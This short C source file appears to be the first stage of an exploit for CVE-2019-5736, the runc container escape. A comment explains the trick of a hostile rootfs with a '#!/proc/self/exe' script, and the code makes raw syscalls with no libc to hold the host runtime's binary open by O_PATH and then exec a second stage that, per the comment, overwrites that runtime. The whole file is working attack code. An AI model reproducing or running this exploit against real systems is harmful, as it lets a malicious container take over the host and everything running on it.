/* The full CVE-2019-5736: the rootfs is hostile. Its command is a script whose first line is
 * `#!/proc/self/exe`, so the kernel runs the host's runtime, whose magic link it still is; and this
 * program lies where the runtime's dynamic linker should be, so that it runs first, inside a
 * process whose executable is the runtime. It holds that file by O_PATH, execs the second half
 * (overwrite/held), and there the runtime is no longer busy and can be opened for writing.
 *
 * There is no libc here: at this point nothing has been set up that one could stand on. */
#include <fcntl.h>
#include <sys/syscall.h>

void _start(void);

static long call3(long number, long a, long b, long c)
{
    long result;

    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(number), "D"(a), "S"(b), "d"(c)
                     : "rcx", "r11", "memory");
    return result;
}

void _start(void)
{
    static const char exe[] = "/proc/self/exe", next[] = "/attacks/overwrite/held";
    static const char *const argv[] = {next, 0};
    static const char *const envp[] = {0};

    call3(SYS_open, (long)exe, O_PATH, 0); /* the lowest free one: 3 */
    call3(SYS_execve, (long)next, (long)argv, (long)envp);
    call3(SYS_exit_group, 99, 0, 0);
    __builtin_unreachable();
}
